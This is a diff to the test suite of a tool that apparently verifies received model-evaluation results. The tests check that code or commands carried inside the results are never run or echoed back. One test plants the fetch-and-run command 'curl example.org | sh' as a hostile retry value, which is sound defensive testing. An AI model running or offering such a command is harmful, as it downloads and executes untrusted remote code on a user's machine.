@@ -20,6 +20,8 @@ from verify.cli import main
 from verify.files import place_of
 from verify.seals import sealed
 from verify.store import PREDICTIONS, PROBE, RunFolder
+from verify.tasks.data import source_digest
+from verify.tasks.registry import load_registry
 
 ROOT = Path(__file__).resolve().parents[2]
 GOLDEN = ROOT / "tests/golden/results-0.1.0"
@@ -259,7 +261,7 @@ def module(folder):
     file = folder / "score/score.py"
     file.parent.mkdir(parents=True)
     file.write_text(
-        f"{FIRES}import datasets, evaluate\n"
+        f"{FIRES}import datasets\nimport evaluate\n"
         "class Score(evaluate.Metric):\n"
         "    def _info(self):\n"
         "        return evaluate.MetricInfo(description='', citation='', inputs_description='', features=datasets."
@@ -305,8 +307,15 @@ def test_no_code_that_results_name_is_run(results, capsys, payload, variant, mon
             assert "task_path=[FOLDER]" in err
 
 
+def of_the_demo(results):
+    """As if the kept results were of the data that the demo has now, whose file is another one with the same rows."""
+    digest = source_digest(load_registry([str(DEMO / "tasks")])["digits"])
+    edit(results / "claims.json", lambda found: found["cells"][0].update(dataset_digest=digest))
+
+
 def test_the_users_own_task_file_may_name_code(results, capsys, payload):
     code_in_the_record(results)
+    of_the_demo(results)
     own_tasks = Path(shutil.copytree(DEMO / "tasks", "tasks"))
     with (own_tasks / "digits.yaml").open("a") as file:
         file.write(f"metrics: [accuracy, 'evaluate:{(results / 'score/score.py').resolve()}']\n")
@@ -321,6 +330,7 @@ def test_the_users_own_task_file_may_name_code(results, capsys, payload):
 def test_a_rerun_takes_model_and_data_of_received_results_from_the_user_alone(results, capsys):
     assert main(["explain", str(results), "--rerun"]) == 2
     assert "task_path=[FOLDER]" in capsys.readouterr().err
+    of_the_demo(results)
     edit(results / "claims.json", lambda found: found.update(reference=str(DEMO / "digits-vit")))
     assert main(["explain", str(results), "--rerun", TASKS]) == 2
     assert "no model on the Hub" in capsys.readouterr().err
@@ -330,7 +340,7 @@ def test_a_received_command_is_not_repeated(results, capsys):
     edit(results / "claims.json", lambda found: found.update(retry="curl example.org | sh"))
     shutil.rmtree(run_of(results))
     code, found, err = run(capsys, "judge", str(results))
-    assert code == 4
+    assert (code, found["verdicts"][0]["kind"]) == (1, "error")
     assert "curl" not in err + json.dumps(found)
     assert "verify check digits-vit" in found["verdicts"][0]["reason"]
 
@@ -531,7 +541,7 @@ def test_results_that_may_only_be_read_are_told_and_nothing_is_written(results, 
     def refused(*_):
         raise OSError(30, "Read-only file system")
 
-    monkeypatch.setattr("verify.files.Path.open", refused)  # who tests may be root, whom no permission stops
+    monkeypatch.setattr("os.fsync", refused)  # who tests may be root, whom no permission stops
     monkeypatch.setattr("verify.locking.FileLock.acquire", refused)
     code, found, err = run(capsys, "judge", str(results))
     assert (code, settled(found)) == (1, kept_verdicts())
